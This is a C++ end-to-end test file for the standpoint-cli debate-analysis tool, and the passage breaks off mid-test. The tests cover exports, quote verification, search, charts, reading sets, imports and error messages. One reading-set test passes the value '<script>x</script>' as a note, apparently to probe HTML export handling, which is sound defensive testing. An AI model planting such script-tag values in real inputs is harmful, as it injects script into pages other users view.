// SPDX-License-Identifier: MIT
// Copyright (c) 2026 The Standpoint authors
// standpoint-cli end to end, as a user runs it.
#include "core/text/csvreader.h"
#include "tests/support/testpack.h"

#include <QDir>
#include <QDirIterator>
#include <QImage>
#include <QTemporaryDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>

#include <tuple>

namespace {

struct CliRun
{
    int exitCode = -1;
    QByteArray out, err;
};

CliRun cli(const QStringList &arguments)
{
    QProcess process;
    process.start(QStringLiteral(STANDPOINT_CLI), arguments);
    EXPECT_TRUE(process.waitForFinished(120000));
    return CliRun{process.exitCode(), process.readAllStandardOutput(), process.readAllStandardError()};
}

void copyTree(const QString &from, const QString &to)
{
    QDirIterator it(from, QDir::Files, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString source = it.next();
        const QString target = to + source.mid(from.size());
        QDir().mkpath(QFileInfo(target).absolutePath());
        ASSERT_TRUE(QFile::copy(source, target)) << source.toStdString();
        QFile::setPermissions(target, QFile::ReadOwner | QFile::WriteOwner);
    }
}

class Cli : public ::testing::Test
{
protected:
    QString db() const { return m_temp.path(); }
    // standpoint-cli on this test's store.
    CliRun inStore(QStringList arguments) const
    {
        arguments.prepend(db());
        arguments.prepend(QStringLiteral("--db"));
        return cli(arguments);
    }
    void init()
    {
        const CliRun r = cli({QStringLiteral("--db"), db(), QStringLiteral("init")});
        ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    }
    standpoint::fixtures::TempStore m_temp;
};

QString writeFile(const QString &path, const QByteArray &bytes)
{
    QFile f(path);
    EXPECT_TRUE(f.open(QIODevice::WriteOnly)) << path.toStdString();
    f.write(bytes);
    return path;
}

bool oneLine(const QByteArray &err)
{
    return err.startsWith("standpoint-cli: ") && err.count('\n') == 1 && err.endsWith('\n');
}

} // namespace

TEST_F(Cli, VersionAndHelp)
{
    const CliRun version = cli({QStringLiteral("--version")});
    EXPECT_EQ(version.exitCode, 0);
    EXPECT_TRUE(version.out.startsWith("standpoint-cli ")) << version.out.toStdString();
    const CliRun help = cli({QStringLiteral("--help")});
    EXPECT_EQ(help.exitCode, 0);
    EXPECT_TRUE(help.out.contains("load-pack"));
}

TEST_F(Cli, InitThenExportJsonHoldsTheFiveCleanDocuments)
{
    init();
    const CliRun r = cli({QStringLiteral("--db"), db(), QStringLiteral("export-json")});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    QJsonParseError error;
    const QJsonDocument doc = QJsonDocument::fromJson(r.out, &error);
    ASSERT_EQ(error.error, QJsonParseError::NoError) << error.errorString().toStdString();
    const QJsonObject debate = doc.object()[QStringLiteral("debates")].toArray().first().toObject();
    const QJsonArray documents = debate[QStringLiteral("documents")].toArray();
    ASSERT_EQ(documents.size(), 5);
    QHash<QString, QString> texts;
    for (const QJsonValue &d : documents) {
        const QString text = d[QStringLiteral("cleaned_text")].toString();
        texts.insert(d[QStringLiteral("id")].toString(), text);
        EXPECT_FALSE(text.contains(QStringLiteral("Have an opinion")));
        EXPECT_FALSE(text.contains(QStringLiteral("Loading…")));
        EXPECT_FALSE(text.contains(QStringLiteral("Participant Bios")));
        EXPECT_FALSE(text.contains(QStringLiteral("](#)")));
        EXPECT_FALSE(d[QStringLiteral("removed")].toArray().isEmpty());
    }
    // Every quote in the export is the exact slice of its document's cleaned text.
    int quotes = 0;
    const auto verify = [&](const QJsonValue &q) {
        const QString text = texts.value(q[QStringLiteral("document")].toString());
        const int start = q[QStringLiteral("start")].toInt(), end = q[QStringLiteral("end")].toInt();
        EXPECT_EQ(text.mid(start, end - start), q[QStringLiteral("text")].toString());
        ++quotes;
    };
    for (const char *section : {"claims", "stances", "events"})
        for (const QJsonValue &entry : debate[QLatin1String(section)].toArray())
            for (const QJsonValue &q : entry[QStringLiteral("quotes")].toArray())
                verify(q);
    for (const QJsonValue &s : debate[QStringLiteral("series")].toArray())
        for (const QJsonValue &p : s[QStringLiteral("points")].toArray())
            verify(p[QStringLiteral("quote")]);
    EXPECT_GT(quotes, 200);
    EXPECT_GE(debate[QStringLiteral("counts")][QStringLiteral("claims")].toInt(), 60);
    EXPECT_FALSE(debate[QStringLiteral("references")].toArray().first()[QStringLiteral("citation")].toString().isEmpty());
}

TEST_F(Cli, CheckReportsEveryQuoteVerified)
{
    init();
    const CliRun r = cli({QStringLiteral("--db"), db(), QStringLiteral("check")});
    ASSERT_EQ(r.exitCode, 0) << r.out.toStdString() << r.err.toStdString();
    EXPECT_TRUE(r.out.contains("Integrity check: ok"));
    EXPECT_TRUE(r.out.contains("Search index: matches the text it indexes"));
    EXPECT_TRUE(r.out.contains("Check passed.\n"));
    const CliRun json = cli({QStringLiteral("--db"), db(), QStringLiteral("check"), QStringLiteral("--json")});
    const QJsonObject report = QJsonDocument::fromJson(json.out).object();
    EXPECT_TRUE(report[QStringLiteral("passed")].toBool());
    EXPECT_EQ(report[QStringLiteral("search_index")].toString(), QStringLiteral("passed"));
    EXPECT_EQ(report[QStringLiteral("quotes_verified")].toInt(), report[QStringLiteral("quotes_total")].toInt());
    EXPECT_GT(report[QStringLiteral("discrepancies")].toArray().size(), 3);
}

TEST_F(Cli, PackWithOneQuoteAlteredByOneCharacterFailsNamingIt)
{
    QTemporaryDir packDir;
    copyTree(QStringLiteral(STANDPOINT_PACK_DIR), packDir.path());
    const QString stancesPath = packDir.filePath(QStringLiteral("content/stances.json"));
    QFile f(stancesPath);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    QJsonObject content = QJsonDocument::fromJson(f.readAll()).object();
    f.close();
    QJsonArray stances = content[QStringLiteral("stances")].toArray();
    QString original, altered;
    for (qsizetype i = 0; i < stances.size() && original.isEmpty(); ++i) {
        QJsonObject s = stances[i].toObject();
        QJsonArray quotes = s[QStringLiteral("quotes")].toArray();
        if (quotes.isEmpty() || !quotes[0].isString())
            continue;
        original = quotes[0].toString();
        altered = original;
        altered[altered.size() / 2] = altered[altered.size() / 2] == QLatin1Char('x') ? QLatin1Char('y') : QLatin1Char('x');
        quotes[0] = altered;
        s[QStringLiteral("quotes")] = quotes;
        stances[i] = s;
    }
    ASSERT_FALSE(original.isEmpty());
    content[QStringLiteral("stances")] = stances;
    ASSERT_TRUE(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    f.write(QJsonDocument(content).toJson());
    f.close();

    const CliRun r = cli({QStringLiteral("--db"), db(), QStringLiteral("load-pack"), packDir.path()});
    EXPECT_EQ(r.exitCode, 1);
    EXPECT_TRUE(oneLine(r.err)) << r.err.toStdString();
    const QString err = QString::fromUtf8(r.err);
    EXPECT_TRUE(err.contains(altered)) << err.toStdString();
    EXPECT_TRUE(err.contains(QStringLiteral("content/stances.json:"))) << err.toStdString();
    EXPECT_TRUE(err.contains(QStringLiteral("quote not found")));
    // The unaltered copy loads.
    QFile::remove(stancesPath);
    ASSERT_TRUE(QFile::copy(QStringLiteral(STANDPOINT_PACK_DIR "/content/stances.json"), stancesPath));
    const CliRun ok = cli({QStringLiteral("--db"), db(), QStringLiteral("load-pack"), packDir.path()});
    EXPECT_EQ(ok.exitCode, 0) << ok.err.toStdString();
}

TEST_F(Cli, SearchPrintsResultsAndJson)
{
    init();
    const CliRun r = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("Kissinger"),
                       QStringLiteral("--limit"), QStringLiteral("3")});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_TRUE(r.out.contains("[Kissinger]"));
    const CliRun json = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("energy"),
                          QStringLiteral("--json"), QStringLiteral("--kind"), QStringLiteral("claim")});
    ASSERT_EQ(json.exitCode, 0);
    const QJsonArray hits = QJsonDocument::fromJson(json.out).array();
    ASSERT_FALSE(hits.isEmpty());
    for (const QJsonValue &h : hits)
        EXPECT_EQ(h[QStringLiteral("kind")].toString(), QStringLiteral("claim"));
}

TEST_F(Cli, BadInputGetsOneLineAndANonZeroExit)
{
    init();
    const CliRun malformed = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("\"unbalanced")});
    EXPECT_EQ(malformed.exitCode, 1);
    EXPECT_TRUE(oneLine(malformed.err)) << malformed.err.toStdString();
    EXPECT_TRUE(malformed.err.contains("not valid"));
    const CliRun limit = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("x"),
                           QStringLiteral("--limit"), QStringLiteral("lots")});
    EXPECT_EQ(limit.exitCode, 2);
    EXPECT_TRUE(oneLine(limit.err));
    const CliRun unknown = cli({QStringLiteral("--db"), db(), QStringLiteral("frobnicate")});
    EXPECT_EQ(unknown.exitCode, 2);
    EXPECT_TRUE(oneLine(unknown.err));
    const CliRun none = cli({QStringLiteral("--db"), db()});
    EXPECT_EQ(none.exitCode, 2);
    const CliRun flag = cli({QStringLiteral("--db"), db(), QStringLiteral("check"), QStringLiteral("--bogus")});
    EXPECT_EQ(flag.exitCode, 2);
    EXPECT_TRUE(oneLine(flag.err));
    const CliRun extra = cli({QStringLiteral("--db"), db(), QStringLiteral("check"), QStringLiteral("extra")});
    EXPECT_EQ(extra.exitCode, 2);
    const CliRun noPack = cli({QStringLiteral("--db"), db(), QStringLiteral("load-pack"), QStringLiteral("/nonexistent")});
    EXPECT_EQ(noPack.exitCode, 1);
    EXPECT_TRUE(noPack.err.contains("no pack.json"));
}

TEST_F(Cli, MissingNewerAndForeignStoresAreRefused)
{
    const CliRun missing = cli({QStringLiteral("--db"), db(), QStringLiteral("export-json")});
    EXPECT_EQ(missing.exitCode, 1);
    EXPECT_TRUE(missing.err.contains("no store at"));
    EXPECT_FALSE(QFile::exists(db()));
    QFile junk(db());
    ASSERT_TRUE(junk.open(QIODevice::WriteOnly));
    junk.write("this is not a database, just some words");
    junk.close();
    const CliRun foreign = cli({QStringLiteral("--db"), db(), QStringLiteral("check")});
    EXPECT_EQ(foreign.exitCode, 1);
    EXPECT_TRUE(oneLine(foreign.err));
    EXPECT_TRUE(foreign.err.contains("not a Standpoint store")) << foreign.err.toStdString();
}

TEST_F(Cli, ChartsListExportAndCsv)
{
    init();
    const CliRun list = cli({QStringLiteral("--db"), db(), QStringLiteral("charts")});
    ASSERT_EQ(list.exitCode, 0) << list.err.toStdString();
    EXPECT_TRUE(list.out.contains("trade-turnover\ttime"));
    EXPECT_GE(list.out.count('\n'), 5);
    QTemporaryDir out;
    const QString png = out.filePath(QStringLiteral("t.png"));
    const CliRun chart = cli({QStringLiteral("--db"), db(), QStringLiteral("chart"), QStringLiteral("trade-turnover"),
                              QStringLiteral("--out"), png, QStringLiteral("--size"), QStringLiteral("1280x720")});
    ASSERT_EQ(chart.exitCode, 0) << chart.err.toStdString();
    EXPECT_TRUE(chart.err.isEmpty()) << chart.err.toStdString();
    EXPECT_EQ(QImage(png).size(), QSize(1280, 720));
    const CliRun csv = cli({QStringLiteral("--db"), db(), QStringLiteral("chart"), QStringLiteral("trade-growth"),
                            QStringLiteral("--csv")});
    ASSERT_EQ(csv.exitCode, 0);
    EXPECT_TRUE(csv.out.startsWith("chart,series,role,"));
    EXPECT_TRUE(csv.out.contains("In 2022, bilateral trade grew by 36 percent to $190 billion."));
    const QString pptx = out.filePath(QStringLiteral("d.pptx"));
    const CliRun deck = cli({QStringLiteral("--db"), db(), QStringLiteral("deck"), QStringLiteral("--charts"),
                             QStringLiteral("trade-turnover,yuan"), QStringLiteral("--out"), pptx});
    ASSERT_EQ(deck.exitCode, 0) << deck.err.toStdString();
    QFile file(pptx);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    EXPECT_EQ(file.read(2), QByteArray("PK"));
}

TEST_F(Cli, ChartCommandsRefuseBadInput)
{
    init();
    QTemporaryDir out;
    const auto expectFailure = [&](const QStringList &args, int code, const char *fragment) {
        QStringList all = {QStringLiteral("--db"), db()};
        all << args;
        const CliRun r = cli(all);
        EXPECT_EQ(r.exitCode, code) << args.join(QLatin1Char(' ')).toStdString();
        EXPECT_TRUE(oneLine(r.err)) << r.err.toStdString();
        EXPECT_TRUE(r.err.contains(fragment)) << r.err.toStdString();
    };
    expectFailure({QStringLiteral("chart"), QStringLiteral("nope"), QStringLiteral("--csv")}, 1, "No chart \"nope\"");
    expectFailure({QStringLiteral("chart"), QStringLiteral("yuan"), QStringLiteral("--out"), out.filePath(QStringLiteral("y.gif"))},
                  1, "must end in .png, .svg or .pdf");
    expectFailure({QStringLiteral("chart"), QStringLiteral("yuan"), QStringLiteral("--out"),
                   out.filePath(QStringLiteral("y.png")), QStringLiteral("--size"), QStringLiteral("huge")},
                  1, "is not a size");
    expectFailure({QStringLiteral("chart"), QStringLiteral("yuan")}, 2, "usage");
    expectFailure({QStringLiteral("chart"), QStringLiteral("yuan"), QStringLiteral("--out"),
                   QStringLiteral("/nonexistent-folder/y.png")},
                  1, "/nonexistent-folder/y.png");
    expectFailure({QStringLiteral("chart"), QStringLiteral("yuan"), QStringLiteral("--csv"), QStringLiteral("--with"),
                   QStringLiteral("mine")},
                  1, "bar chart");
    expectFailure({QStringLiteral("chart"), QStringLiteral("trade-turnover"), QStringLiteral("--csv"),
                   QStringLiteral("--events"), QStringLiteral("e-moon-landing")},
                  1, "No event \"e-moon-landing\"");
    expectFailure({QStringLiteral("deck"), QStringLiteral("--charts"), QStringLiteral("yuan"), QStringLiteral("--out"),
                   out.filePath(QStringLiteral("d.ppt"))},
                  1, "must end in .pptx");
    expectFailure({QStringLiteral("deck"), QStringLiteral("--out"), out.filePath(QStringLiteral("d.pptx"))}, 2, "usage");
}

TEST_F(Cli, UsersOwnSeriesAreValidatedStoredAndDrawn)
{
    init();
    QTemporaryDir dir;
    const QString bad = dir.filePath(QStringLiteral("bad.csv"));
    QFile badFile(bad);
    ASSERT_TRUE(badFile.open(QIODevice::WriteOnly));
    badFile.write("year,value\n2021,150\n2022,lots\n");
    badFile.close();
    const CliRun refused = cli({QStringLiteral("--db"), db(), QStringLiteral("series"), QStringLiteral("add"), bad,
                                QStringLiteral("--title"), QStringLiteral("Mine"), QStringLiteral("--unit"),
                                QStringLiteral("USD bn")});
    EXPECT_EQ(refused.exitCode, 1);
    EXPECT_TRUE(refused.err.contains("bad.csv:3: \"lots\" is not a number")) << refused.err.toStdString();
    const QString good = dir.filePath(QStringLiteral("good.csv"));
    QFile goodFile(good);
    ASSERT_TRUE(goodFile.open(QIODevice::WriteOnly));
    goodFile.write("year,value,note\n2021,150,my estimate\n2022,185,\n");
    goodFile.close();
    const CliRun added = cli({QStringLiteral("--db"), db(), QStringLiteral("series"), QStringLiteral("add"), good,
                              QStringLiteral("--title"), QStringLiteral("Mine"), QStringLiteral("--unit"),
                              QStringLiteral("USD bn")});
    ASSERT_EQ(added.exitCode, 0) << added.err.toStdString();
    const CliRun list = cli({QStringLiteral("--db"), db(), QStringLiteral("series"), QStringLiteral("list")});
    EXPECT_TRUE(list.out.startsWith("mine\tMine\tUSD bn\t2 year")) << list.out.toStdString();
    const CliRun csv = cli({QStringLiteral("--db"), db(), QStringLiteral("chart"), QStringLiteral("trade-turnover"),
                            QStringLiteral("--csv"), QStringLiteral("--with"), QStringLiteral("mine")});
    ASSERT_EQ(csv.exitCode, 0) << csv.err.toStdString();
    EXPECT_TRUE(csv.out.contains("mine,user,2021,150,")) << csv.out.toStdString();
    const CliRun removed = cli({QStringLiteral("--db"), db(), QStringLiteral("series"), QStringLiteral("remove"),
                                QStringLiteral("mine")});
    EXPECT_EQ(removed.exitCode, 0);
}

TEST_F(Cli, TimelineExportsARangeOfLanesAndRefusesBadInput)
{
    init();
    QTemporaryDir out;
    const QString png = out.filePath(QStringLiteral("t.png"));
    const CliRun ok = cli({QStringLiteral("--db"), db(), QStringLiteral("timeline"), QStringLiteral("--from"),
                           QStringLiteral("2014"), QStringLiteral("--to"), QStringLiteral("2025"), QStringLiteral("--positions"),
                           QStringLiteral("heritage,gabuev"), QStringLiteral("--out"), png});
    ASSERT_EQ(ok.exitCode, 0) << ok.err.toStdString();
    EXPECT_EQ(QImage(png).size(), QSize(1920, 1080));
    const auto refused = [&](const QStringList &args, const char *fragment) {
        QStringList all = {QStringLiteral("--db"), db(), QStringLiteral("timeline")};
        all << args;
        const CliRun r = cli(all);
        EXPECT_NE(r.exitCode, 0);
        EXPECT_TRUE(oneLine(r.err)) << r.err.toStdString();
        EXPECT_TRUE(r.err.contains(fragment)) << r.err.toStdString();
    };
    refused({QStringLiteral("--from"), QStringLiteral("soon"), QStringLiteral("--out"), png}, "--from takes a year");
    refused({QStringLiteral("--from"), QStringLiteral("2020"), QStringLiteral("--to"), QStringLiteral("2010"),
             QStringLiteral("--out"), png},
            "--to must come after --from");
    refused({QStringLiteral("--positions"), QStringLiteral("kremlin"), QStringLiteral("--out"), png}, "No lane \"kremlin\"");
    refused({QStringLiteral("--out"), out.filePath(QStringLiteral("t.doc"))}, "must end in .png, .svg or .pdf");
    refused({}, "usage");
}

TEST_F(Cli, ReadingSetsFromTheCommandLine)
{
    init();
    QTemporaryDir dir;
    const auto run = [&](QStringList args) {
        args.prepend(db());
        args.prepend(QStringLiteral("--db"));
        return cli(args);
    };
    ASSERT_EQ(run({QStringLiteral("set"), QStringLiteral("create"), QStringLiteral("Week 3")}).exitCode, 0);
    ASSERT_EQ(run({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("Week 3"), QStringLiteral("excerpt"),
                   QStringLiteral("gabuev-2024:0-70"), QStringLiteral("--note"), QStringLiteral("<script>x</script>")})
                  .exitCode,
              0);
    ASSERT_EQ(run({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"), QStringLiteral("stance"),
                   QStringLiteral("q-wedge/heritage")})
                  .exitCode,
              0);
    ASSERT_EQ(run({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"), QStringLiteral("chart"),
                   QStringLiteral("trade-growth")})
                  .exitCode,
              0);
    const CliRun list = run({QStringLiteral("set"), QStringLiteral("list")});
    EXPECT_TRUE(list.out.contains("3 items")) << list.out.toStdString();
    const QString shared = dir.filePath(QStringLiteral("w3.standpoint"));
    for (const char *name : {"w3.standpoint", "w3.html", "w3.pdf", "w3.md"}) {
        const CliRun r = run({QStringLiteral("set"), QStringLiteral("export"), QStringLiteral("1"), QStringLiteral("--out"),
                              dir.filePath(QString::fromUtf8(name))});
        EXPECT_EQ(r.exitCode, 0) << name << r.err.toStdString();
    }
    const CliRun again = run({QStringLiteral("set"), QStringLiteral("import"), shared});
    EXPECT_EQ(again.exitCode, 0);
    EXPECT_TRUE(again.out.contains("already in the store"));
    const QString csv = dir.filePath(QStringLiteral("a.csv"));
    EXPECT_EQ(run({QStringLiteral("annotations"), QStringLiteral("export"), QStringLiteral("--out"), csv}).exitCode, 0);
    // Bad input: one line, non-zero.
    for (const QStringList &bad : {QStringList{QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("nope"),
                                               QStringLiteral("claim"), QStringLiteral("x")},
                                   QStringList{QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"),
                                               QStringLiteral("excerpt"), QStringLiteral("gabuev-2024")},
                                   QStringList{QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"),
                                               QStringLiteral("poster"), QStringLiteral("x")},
                                   QStringList{QStringLiteral("set"), QStringLiteral("import"), dir.filePath(QStringLiteral("none"))},
                                   QStringList{QStringLiteral("set"), QStringLiteral("export"), QStringLiteral("1"),
                                               QStringLiteral("--out"), dir.filePath(QStringLiteral("x.docx"))},
                                   QStringList{QStringLiteral("annotations"), QStringLiteral("export"), QStringLiteral("--out"),
                                               dir.filePath(QStringLiteral("a.xml"))}}) {
        const CliRun r = run(bad);
        EXPECT_NE(r.exitCode, 0) << bad.join(QLatin1Char(' ')).toStdString();
        EXPECT_TRUE(oneLine(r.err)) << r.err.toStdString();
    }
    // Keys are looked up in one debate, and what is missing is named with it.
    const CliRun missing = run({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"), QStringLiteral("claim"),
                                QStringLiteral("c-nope")});
    EXPECT_NE(missing.exitCode, 0);
    EXPECT_TRUE(missing.err.contains("No claim \"c-nope\" in debate \"us-russia-china-wedge\"")) << missing.err.toStdString();
    const CliRun noDebate = run({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"), QStringLiteral("event"),
                                 QStringLiteral("e-kissinger-nixon-opening"), QStringLiteral("--debate"), QStringLiteral("nope")});
    EXPECT_NE(noDebate.exitCode, 0);
    EXPECT_TRUE(noDebate.err.contains("No debate \"nope\"")) << noDebate.err.toStdString();
    EXPECT_EQ(run({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"), QStringLiteral("event"),
                   QStringLiteral("e-kissinger-nixon-opening"), QStringLiteral("--debate"), QStringLiteral("us-russia-china-wedge")})
                  .exitCode,
              0);
}

TEST_F(Cli, ImportCreditsDocumentsAndRefusesBadFilesWithoutWriting)
{
    init();
    QTemporaryDir files;
    const auto write = [&](const QString &name, const QByteArray &bytes) {
        QFile f(files.filePath(name));
        EXPECT_TRUE(f.open(QIODevice::WriteOnly));
        f.write(bytes);
        return f.fileName();
    };
    const QString good = write(QStringLiteral("ports.md"), "# Northern Ports\n\nIcebreakers keep the northern ports open all winter.\n");
    const QString bad = write(QStringLiteral("broken.txt"), QByteArray("ok\xFF\xFEnot utf8"));
    const QString alsoBad = write(QStringLiteral("empty.txt"), QByteArray());
    const CliRun refused = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), bad, good, alsoBad});
    EXPECT_EQ(refused.exitCode, 1);
    EXPECT_TRUE(refused.err.contains("broken.txt: it is not valid UTF-8")) << refused.err.toStdString();
    EXPECT_TRUE(refused.err.contains("empty.txt")) << refused.err.toStdString(); // every refusal is named
    EXPECT_TRUE(refused.err.contains("2 file(s) refused; nothing was imported")) << refused.err.toStdString();
    const CliRun none = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("icebreakers")});
    EXPECT_TRUE(none.out.contains("No results")) << none.out.toStdString();

    const CliRun unknown = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), good, QStringLiteral("--position"), QStringLiteral("nobody")});
    EXPECT_EQ(unknown.exitCode, 1);
    EXPECT_TRUE(oneLine(unknown.err)) << unknown.err.toStdString();
    EXPECT_TRUE(unknown.err.contains("nobody"));

    const CliRun done = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), good, QStringLiteral("--position"), QStringLiteral("gabuev")});
    ASSERT_EQ(done.exitCode, 0) << done.err.toStdString();
    EXPECT_TRUE(done.out.contains("imported")) << done.out.toStdString();
    EXPECT_TRUE(done.out.contains("\"northern-ports\""));
    const CliRun found = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("icebreakers"), QStringLiteral("--position"),
                              QStringLiteral("gabuev")});
    EXPECT_TRUE(found.out.contains("northern-ports")) << found.out.toStdString();
    const CliRun usage = cli({QStringLiteral("--db"), db(), QStringLiteral("import")});
    EXPECT_EQ(usage.exitCode, 2);
    const CliRun twoTitles = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), good, good, QStringLiteral("--title"),
                                  QStringLiteral("One")});
    EXPECT_EQ(twoTitles.exitCode, 1);
    EXPECT_TRUE(twoTitles.err.contains("--title names one document")) << twoTitles.err.toStdString();
    const CliRun noDebate = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), good, QStringLiteral("--debate"),
                                 QStringLiteral("elsewhere")});
    EXPECT_EQ(noDebate.exitCode, 1);
    EXPECT_TRUE(noDebate.err.contains("no debate \"elsewhere\"")) << noDebate.err.toStdString();
    const CliRun missing = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), files.filePath(QStringLiteral("gone.md"))});
    EXPECT_EQ(missing.exitCode, 1);
    EXPECT_TRUE(missing.err.contains("no such file")) << missing.err.toStdString();
    // With --skip-bad the others are imported, the refusals still named and the exit status still 1.
    const QString arctic = write(QStringLiteral("arctic.md"), "# Arctic Convoys\n\nConvoys sail the northern route in summer.\n");
    const CliRun skipped = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), bad, arctic, alsoBad, QStringLiteral("--skip-bad")});
    EXPECT_EQ(skipped.exitCode, 1);
    EXPECT_TRUE(skipped.out.contains("\"arctic-convoys\"")) << skipped.out.toStdString();
    EXPECT_TRUE(skipped.err.contains("broken.txt") && skipped.err.contains("empty.txt")) << skipped.err.toStdString();
    const CliRun allBad = cli({QStringLiteral("--db"), db(), QStringLiteral("import"), bad, alsoBad, QStringLiteral("--skip-bad")});
    EXPECT_EQ(allBad.exitCode, 1);
    EXPECT_TRUE(allBad.err.contains("no file could be imported")) << allBad.err.toStdString();
    const CliRun check = cli({QStringLiteral("--db"), db(), QStringLiteral("check")});
    EXPECT_EQ(check.exitCode, 0) << check.out.toStdString() << check.err.toStdString();
}

TEST_F(Cli, ReuseListsPairsAndMarksChangedWords)
{
    init();
    const CliRun pairs = cli({QStringLiteral("--db"), db(), QStringLiteral("reuse")});
    ASSERT_EQ(pairs.exitCode, 0) << pairs.err.toStdString();
    EXPECT_TRUE(pairs.out.contains("heritage-commentary ↔ heritage-factsheet")) << pairs.out.toStdString();
    const CliRun pair = cli({QStringLiteral("--db"), db(), QStringLiteral("reuse"), QStringLiteral("heritage-commentary"),
                             QStringLiteral("heritage-factsheet")});
    ASSERT_EQ(pair.exitCode, 0);
    EXPECT_TRUE(pair.out.contains("[-dominant-]")) << pair.out.toStdString();
    EXPECT_TRUE(pair.out.contains("{+India,+}"));
    const CliRun badMin = cli({QStringLiteral("--db"), db(), QStringLiteral("reuse"), QStringLiteral("--min"), QStringLiteral("lots")});
    EXPECT_EQ(badMin.exitCode, 1);
    EXPECT_TRUE(badMin.err.contains("--min")) << badMin.err.toStdString();
    const CliRun unknown = cli({QStringLiteral("--db"), db(), QStringLiteral("reuse"), QStringLiteral("heritage-commentary"), QStringLiteral("x")});
    EXPECT_EQ(unknown.exitCode, 1);
    EXPECT_TRUE(unknown.err.contains("\"x\""));
    const CliRun three = cli({QStringLiteral("--db"), db(), QStringLiteral("reuse"), QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c")});
    EXPECT_EQ(three.exitCode, 2);
}

TEST_F(Cli, SearchFacetFiltersAreCheckedAndCounted)
{
    init();
    const CliRun facets = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("energy"), QStringLiteral("--facets"),
                               QStringLiteral("--json"), QStringLiteral("--theme"), QStringLiteral("trade-energy")});
    ASSERT_EQ(facets.exitCode, 0) << facets.err.toStdString();
    const QJsonObject o = QJsonDocument::fromJson(facets.out).object();
    ASSERT_FALSE(o.value(QStringLiteral("hits")).toArray().isEmpty());
    for (const auto &hit : o.value(QStringLiteral("hits")).toArray())
        EXPECT_TRUE(hit.toObject().value(QStringLiteral("themes")).toArray().contains(QStringLiteral("trade-energy")));
    EXPECT_FALSE(o.value(QStringLiteral("facets")).toObject().value(QStringLiteral("position")).toArray().isEmpty());
    const CliRun badTheme = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("energy"), QStringLiteral("--theme"),
                                 QStringLiteral("weather")});
    EXPECT_EQ(badTheme.exitCode, 1);
    EXPECT_TRUE(badTheme.err.contains("--theme: there is no \"weather\"")) << badTheme.err.toStdString();
    const CliRun badYear = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("energy"), QStringLiteral("--year"),
                                QStringLiteral("last")});
    EXPECT_EQ(badYear.exitCode, 1);
    EXPECT_TRUE(badYear.err.contains("--year")) << badYear.err.toStdString();
    const CliRun bare = cli({QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("AND")});
    EXPECT_EQ(bare.exitCode, 1);
    EXPECT_TRUE(bare.err.contains("phrase")) << bare.err.toStdString();
}

// standpoint-cli links only the core and hands drawing to standpoint-cli-draw; without it, it says so.
TEST_F(Cli, DrawingCommandsNeedTheDrawingToolAndSaySoWhenItIsMissing)
{
    init();
    QTemporaryDir alone;
    const QString lone = alone.filePath(QStringLiteral("standpoint-cli"));
    ASSERT_TRUE(QFile::copy(QStringLiteral(STANDPOINT_CLI), lone));
    QFile::setPermissions(lone, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    const QString png = alone.filePath(QStringLiteral("chart.png"));
    QProcess process;
    process.start(lone, {QStringLiteral("--db"), db(), QStringLiteral("chart"), QStringLiteral("trade-turnover"),
                         QStringLiteral("--out"), png});
    ASSERT_TRUE(process.waitForFinished(60000));
    const QByteArray err = process.readAllStandardError();
    EXPECT_EQ(process.exitCode(), 1);
    EXPECT_TRUE(oneLine(err)) << err.toStdString();
    EXPECT_TRUE(err.contains("standpoint-cli-draw")) << err.toStdString();
    EXPECT_FALSE(QFile::exists(png));
    // The store commands need nothing else.
    process.start(lone, {QStringLiteral("--db"), db(), QStringLiteral("search"), QStringLiteral("wedge")});
    ASSERT_TRUE(process.waitForFinished(60000));
    EXPECT_EQ(process.exitCode(), 0) << process.readAllStandardError().toStdString();
    // Beside its drawing tool, the same command draws the chart.
    const CliRun drawn = cli({QStringLiteral("--db"), db(), QStringLiteral("chart"), QStringLiteral("trade-turnover"),
                              QStringLiteral("--out"), png});
    EXPECT_EQ(drawn.exitCode, 0) << drawn.err.toStdString();
    EXPECT_FALSE(QImage(png).isNull());
}

// The units rule, as the command line follows it: a chart drawn with a series the user names refuses
// one of another unit; a deck leaves that series out of the slide and says so.
TEST_F(Cli, ASeriesOfAnotherUnitIsRefusedOnAChartAndLeftOutOfADeck)
{
    init();
    QTemporaryDir dir;
    const QString file = writeFile(dir.filePath(QStringLiteral("growth.csv")), "year,value\n2021,35\n2022,29\n");
